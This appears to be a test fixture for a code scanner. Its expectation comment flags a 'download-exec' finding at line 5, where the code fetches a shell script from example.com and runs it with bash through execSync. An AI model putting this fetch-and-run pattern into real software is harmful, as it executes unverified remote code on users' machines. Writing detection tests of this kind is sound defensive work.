// expect: download-exec 5:1
import { execSync } from 'node:child_process';

const script = 'https://example.com/setup.sh';
execSync(await (await fetch(script)).text(), { shell: '/bin/bash' });
